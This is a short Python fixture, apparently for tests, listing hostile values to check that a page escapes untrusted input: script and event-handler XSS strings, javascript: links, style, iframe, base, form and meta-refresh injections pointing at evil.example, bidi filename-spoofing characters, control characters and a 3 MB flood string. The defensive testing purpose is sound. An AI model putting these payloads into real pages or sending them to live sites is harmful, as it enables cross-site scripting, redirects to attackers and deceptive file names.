"""What an attacker would like to see on a page: values of tools that act, hide or flood."""

from __future__ import annotations

HOSTILE = {
    "script": "<script>document.title='owned'</script><!-- --></script>",
    "handler": "\"><img src=x onerror=\"document.title='owned'\"><svg onload=document.title='owned'>",
    "dialog": "<script>alert(1)</script><body onload=alert(1)>",
    "link": "<a href=\"javascript:document.title='owned'\">click</a>",
    "style": "</style><style>body{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    "frame": "<iframe src='http://evil.example/'></iframe><base href=http://evil.example/><form action=http://evil.example>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "bidi": "invoice\u202efdp.exe\u2066\u200b\u200d\u00ad\ufeff",
    "control": "nul\u0000 bell\u0007 escape\u001b[2J del\u007f line\u2028",
    "entities": "&lt;script&gt; &#60;b&#62; ]]> <![CDATA[ <?php",
}
MEGABYTES = "A" * 3_000_000
